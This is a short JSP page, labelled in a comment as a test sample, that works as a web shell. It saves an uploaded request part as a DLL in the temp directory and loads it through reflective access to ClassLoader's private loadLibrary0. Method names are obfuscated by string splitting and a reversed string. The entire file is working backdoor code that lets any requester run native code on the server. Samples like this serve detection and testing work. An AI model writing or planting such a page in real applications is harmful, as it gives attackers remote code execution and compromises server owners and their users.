<%@ page import="java.io.*,java.lang.reflect.Method" %>
<%-- test sample: a posted part saved as a library, loaded through ClassLoader's private loader --%>
<%
    javax.servlet.http.Part part = request.getPart("n");
    File dir = new File(System.getProperty("java.io.tmpdir"), "x" + "lib");
    dir.mkdirs();
    File lib = new File(dir, "lib" + "n.dll");
    InputStream in = part.getInputStream();
    OutputStream o = new FileOutputStream(lib);
    byte[] b = new byte[4096]; int n;
    while ((n = in.read(b)) > 0) o.write(b, 0, n);
    o.close();
    String m = new StringBuilder("0yrarbiLdaol").reverse().toString();
    Method ld = ClassLoader.class.getDeclaredMethod("loadLibrary" + "0", Class.class, File.class);
    ld.setAccessible(true);
    ld.invoke(null, this.getClass(), lib);
%>
